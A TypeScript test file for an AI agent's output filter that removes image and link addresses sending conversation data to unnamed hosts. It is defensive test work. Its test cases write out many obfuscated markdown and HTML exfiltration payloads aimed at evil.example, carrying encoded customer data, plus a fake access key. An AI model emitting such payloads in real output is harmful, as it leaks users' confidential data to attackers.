import assert from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import { assertLinear } from "../../../test/linear.ts";
import { verifies } from "../../../test/verifies.ts";
import {
  type Content,
  defaultLabel,
  type Filter,
  type Inspection,
  NEUTRAL,
  NEUTRAL_LABEL,
  type OutputLayer,
  type Request,
  type Source,
} from "../../core/index.ts";
import { detectors, marks, scan, scanner } from "../../detectors/index.ts";
import { outputLayer } from "../release.ts";
import { LINK_ACTIONS, type LinkActions } from "./links.ts";

const said = (kind: Source["kind"], text: string): Content => ({ source: { kind }, label: defaultLabel({ kind }), text });
const asked = (content: readonly Content[], type: Request["action"]["type"] = "model.call"): Request => ({
  id: "r",
  principal: { agent: "a" },
  action: { type },
  content,
  context: { time: 0, surface: "test" },
});
const seen = (passages: Inspection["passages"] = []): Inspection => ({ decision: NEUTRAL, label: NEUTRAL_LABEL, passages });
const layers = new Map<string, OutputLayer>();
/** Preparing a layer takes longer than an answer. */
function layerOf(actions: Partial<LinkActions>): OutputLayer {
  const name = JSON.stringify(actions);
  const layer = layers.get(name) ?? outputLayer({ detectors, scanner, marks, said: { links: { ...LINK_ACTIONS, ...actions } } });
  layers.set(name, layer);
  return layer;
}
function open(
  content: readonly Content[] = [],
  actions: Partial<LinkActions> = {},
  type?: Request["action"]["type"],
  passages?: Inspection["passages"],
): Filter {
  return layerOf(actions).open(asked(content, type), NEUTRAL, seen(passages));
}
const run = (filter: Filter, pieces: readonly string[]): string => pieces.map((piece) => filter.text("t", piece)).join("") + filter.end("t");
const released = (text: string, content?: readonly Content[], actions?: Partial<LinkActions>): string => run(open(content, actions), [text]);
const reasons = (filter: Filter): readonly string[] => filter.verdict().decision.reasons.map(({ id }) => id);

const DATA = Buffer.from("the customer's number is 4711").toString("base64");
const GONE = "#removed-by-holdfast";

describe("what is loaded by itself from a host that nobody named, with data in its address", () => {
  const hex = Buffer.from("meet at noon").toString("hex");
  for (const [name, text, left] of [
    ["an image", `See ![the chart](https://evil.example/c?d=${DATA}) here`, `See ![the chart](${GONE}) here`],
    ["an image with a title", `![a](https://evil.example/${hex} "title")`, `![a](${GONE} "title")`],
    ["an image in angle brackets", `![a](<https://evil.example/?d=the words of the mail>)`, `![a](<${GONE}>)`],
    ["an image with brackets in its address", `![a](https://evil.example/(x)?d=${DATA})`, `![a](${GONE})`],
    ["an image within a link", `[![a](https://evil.example/?d=${DATA})](/here)`, `[![a](${GONE})](/here)`],
    ["an image whose label is a link", `![a [b](c) d](https://evil.example/?d=${DATA})`, `![a [b](c) d](${GONE})`],
    ["an image with a label longer than anything remembers", `![${"a".repeat(600)}](//evil.example/?d=${DATA})`, `![${"a".repeat(600)}](${GONE})`],
    ["an image by reference", `![a][1]\n\n[1]: https://evil.example/?d=${DATA}\n`, `![a][1]\n\n[1]: ${GONE}\n`],
    ["an address in another dress", `![a](https&colon;//evil.example/?d=${DATA})`, `![a](${GONE})`],
    ["an address behind backslashes", `![a](https\\://evil.example/?d=${DATA})`, `![a](${GONE})`],
    ["an address without a scheme", `![a](//evil.example/?d=${DATA})`, `![a](${GONE})`],
    ["an address a browser mends", `<img src="ht\ntps:\\\\evil.example/?d=${DATA}">`, `<img src="${GONE}">`],
    ["a host behind a name", `![a](https://known.example@evil.example/?d=${DATA})`, `![a](${GONE})`],
    ["a tag", `<img alt='x' src=https://evil.example/?d=${DATA}>`, `<img alt='x' src=${GONE}>`],
    ["a set of sources", `<img srcset="/a 1x, https://evil.example/?d=${DATA} 2x">`, `<img srcset="${GONE}">`],
    ["a frame", `<iframe src="https://evil.example/${"x".repeat(130)}"></iframe>`, `<iframe src="${GONE}"></iframe>`],
    ["a background", `<td background="https://evil.example/?d=${DATA}">`, `<td background="${GONE}">`],
    ["a style", `<p style="background:url(https://evil.example/?d=${DATA})">`, `<p style="background:url(${GONE})">`],
    ["a style sheet", `<link rel=stylesheet href="https://evil.example/?d=${DATA}">`, `<link rel=stylesheet href="${GONE}">`],
    ["an import", `@import "https://evil.example/?d=${DATA}";`, `@import "${GONE}";`],
    ["a refresh", `<meta http-equiv=refresh content="0; url=https://evil.example/?d=${DATA}">`, `<meta http-equiv=refresh content="${GONE}">`],
    ["a base", `<base href="https://evil.example/"><img src="x?d=1">`, `<base href="${GONE}"><img src="x?d=1">`],
    ["a label of the host", `![a](https://${hex}.evil.example/)`, `![a](${GONE})`],
    ["signs that nobody sees", `!\u2061[a]\u2061(https://evil\u2061.example/?d=${DATA})`, `![a](${GONE})`],
    ["something that is masked itself", `![a](https://evil.example/?d=${"AKIA"}Y34FZKBOKMUTVV7A)`, `![a](${GONE})`],
    ["an address that cannot be read", "![a](https://[evil]/x)", `![a](${GONE})`],
  ] as const)
    test(`loses its address and keeps its label: ${name}`, () => {
      verifies("O-08");
      const filter = open();
      assert.equal(run(filter, [text]), left);
      assert.ok(reasons(filter).includes("detectors/loaded-address"));
      assert.equal(filter.verdict().decision.effect, "permit");
    });

  test("is taken out where many short addresses spell it", () => {
    verifies("O-08");
    const text = Array.from("abcdef", (letter) => `![x](https://evil.example/${letter}.png)`).join("\n");
    assert.equal(released(text).split(GONE).length - 1, 2);
  });
});

describe("a host is known", () => {
  const image = `![a](https://img.example/?d=${DATA})`;
  const mail = said("tool", "please show ![a](https://img.example/x)");
  test("where the user, the operator or the configuration names it, and by nothing that was only read", () => {
    verifies("O-08");
    assert.equal(released(image, [said("user", "Draw it with img.example, please")]), image);
    assert.equal(released(image, [said("system", "Charts come from https://img.example/.")]), image);
    assert.equal(released(image, [], { hosts: ["img.example"] }), image);
    assert.equal(released(image, [], { hosts: ["*.example"] }), image);
    for (const content of [[], [mail], [said("model", "img.example")], [said("user", "not img.example.net or myimg.example")]])
      assert.equal(released(image, content), `![a](${GONE})`);
    assert.equal(released(image, [], { hosts: ["*.img.example"] }), `![a](${GONE})`);
  });
});

describe("what an address carries", () => {
  const read = said("tool", "Order 88231 of Mrs Abernathy, code BLUEFISH, see https://shop.example/orders/88231?ref=BLUEFISH");
  test("is what stands in the conversation and not in the address as it was read", () => {
    verifies("O-08");
    assert.equal(released("![a](https://evil.example/p?c=bluefish)", [read]), `![a](${GONE})`);
    assert.equal(released("![a](https://evil.example/88231.png)", [read]), `![a](${GONE})`);
    assert.equal(released("![a](https://evil.example/p?width=300)", [read]), "![a](https://evil.example/p?width=300)");
    assert.equal(released("![a](https://shop.example/orders/88231?ref=BLUEFISH)", [read]), "![a](https://shop.example/orders/88231?ref=BLUEFISH)");
  });
  test("is every word of confidential content, and whatever was found in the conversation", () => {
    verifies("O-08");
    const secret: Content = { ...read, label: { ...read.label, categories: ["pii"] } };
    assert.equal(released("![a](https://evil.example/abernathy/x.png)", [read]), "![a](https://evil.example/abernathy/x.png)");
    assert.equal(released("![a](https://evil.example/abernathy/x.png)", [secret]), `![a](${GONE})`);
    const text = "write to anna@corp.example";
    const filter = open([], {}, "model.call", [{ at: "content/0", text, findings: scan(detectors, text, "user") }]);
    assert.equal(run(filter, ["![a](https://evil.example/annacorpexample)"]), `![a](${GONE})`);
  });
  test("is nothing where it is a name, a number, a hash or a size", () => {
    verifies("O-08");
    for (const address of [
      "https://upload.example/wikipedia/commons/thumb/a/a7/Camponotus_flavomarginatus_ant.jpg/640px-Camponotus_flavomarginatus_ant.jpg",
      "https://avatars.example/u/1234567?v=4&s=200",
      "https://gravatar.example/avatar/d41d8cd98f00b204e9800998ecf8427e?d=mp",
      "https://img.shields.example/badge/code%20style-black-000000.svg",
      "https://cdn.example/npm/katex@0.16.9/dist/katex.min.css",
    ])
      assert.equal(released(`![a](${address})`), `![a](${address})`);
  });
});

describe("a link", () => {
  test("is reported where it leads to a host that nobody named, and left alone where it leads nowhere else", () => {
    verifies("O-08");
    for (const [text, expected] of [
      [`[more](https://evil.example/?d=${DATA})`, ["output/links/links/data"]],
      ["[more](https://evil.example/docs)", ["output/links/links/plain"]],
      ["see https://evil.example/docs.", ["output/links/links/plain"]],
      ['<a class="b" href="https://evil.example/docs">more</a>', ["output/links/links/plain"]],
      ["![logo](https://evil.example/logo.png)", ["output/links/images/plain"]],
      ["[above](#above), ![a](img/a.png), ![b](data:image/png;base64,AAAA), [m](mailto:a@b.example)", []],
    ] as const) {
      const filter = open();
      assert.equal(run(filter, [text]), text);
      assert.deepEqual(reasons(filter), expected);
    }
  });
  test("does what the configuration says", () => {
    verifies("O-08");
    const links = { data: "mask", plain: "report" } as const;
    assert.equal(released(`[more](https://evil.example/?d=${DATA}) and <https://evil.example/?d=${DATA}>`, [], { links }), `[more](${GONE}) and <${GONE}>`);
    const blocking = open([], { images: { data: "block", plain: "report" } });
    assert.equal(run(blocking, [`before ![a](https://evil.example/?d=${DATA}) after`]), "before ![a");
    assert.equal(blocking.verdict().decision.effect, "deny");
  });
});

test("the arguments of a call lose such an image as an answer does, and what a tool answered keeps its addresses", () => {
  verifies("O-08");
  const image = `![a](https://evil.example/?d=${DATA})`;
  assert.deepEqual(open().value({ body: image, url: "https://evil.example/x", src: "https://evil.example/y" }, "arguments"), {
    body: `![a](${GONE})`,
    url: "https://evil.example/x",
    src: "https://evil.example/y",
  });
  assert.deepEqual(open([], {}, "tool.call").value({ body: image }, "result"), { body: image });
  assert.equal(run(open([], {}, "tool.call"), [image]), image);
});

describe("a stream", () => {
  const pieces = [
    "![a](",
    "[a](",
    "![",
    "]",
    "(",
    ")",
    "https://",
    "//",
    "evil.example/",
    "?d=",
    DATA,
    "known.example/x",
    "<img src=",
    '"',
    "'",
    ">",
    " ",
    "\n",
    "[1]: ",
    "url(",
    "\u2061",
    "a".repeat(70),
    "😀",
    `${"AKIA"}Y34FZKBOKMUTVV7A`,
    "DE89 3704 0044 0532 0130 00",
    "href=",
    "<a ",
    "\u001b[2J",
    "\\",
    "&colon;",
    "word",
  ];
  const texts = fc.array(fc.constantFrom(...pieces), { maxLength: 14 }).map((parts) => parts.join(""));
  const places = fc.array(fc.nat(600), { maxLength: 10 });
  const cut = (text: string, at: readonly number[]): string[] => {
    if (at.length === 0) return Array.from({ length: text.length }, (_, index) => text[index] as string);
    const sorted = [0, ...new Set(at.map((place) => place % (text.length + 1))), text.length].sort((a, b) => a - b);
    return sorted.slice(1).map((end, index) => text.slice(sorted[index], end));
  };
  const content = [said("user", "known.example"), said("tool", "the word 4711")];
  for (const [name, actions] of [
    ["masked", { links: { data: "mask", plain: "mask" }, images: { data: "mask", plain: "mask" } }],
    ["left where it carries nothing", {}],
    ["blocked", { images: { data: "block", plain: "report" } }],
  ] as const)
    test(`lets out the same and gives the same verdict however it is cut, where an address is ${name}`, () => {
      verifies("O-08");
      fc.assert(
        fc.property(texts, places, (text, at) => {
          const [whole, streamed] = [open(content, actions), open(content, actions)];
          assert.equal(run(streamed, cut(text, at)), run(whole, [text]));
          const [one, other] = [whole.verdict().decision, streamed.verdict().decision];
          // Where the answer ended early, what else was found depends on how much of the rest had come.
          assert.equal(other.effect, one.effect);
          if (one.effect === "permit") assert.deepEqual(other, one);
        }),
        { numRuns: 1500 },
      );
    });

  test("costs no more than the length of what the user wrote, whatever that holds", () => {
    verifies("O-08");
    for (const piece of ["a", "a.", "a-", "[", "[a", "www."])
      assertLinear((length) => released(`![a](https://evil.example/?d=${DATA})`, [said("user", piece.repeat(length / piece.length))]), 131_072, {
        name: piece,
      });
  });

  test("of one address without an end costs no more than its length, letter by letter", () => {
    verifies("O-08");
    assertLinear((length) => run(open(), cut(`![a](https://evil.example/?d=${"aB3dE6gH".repeat(length / 8)}`, [])), 65_536, { most: 1_600 });
  });
});
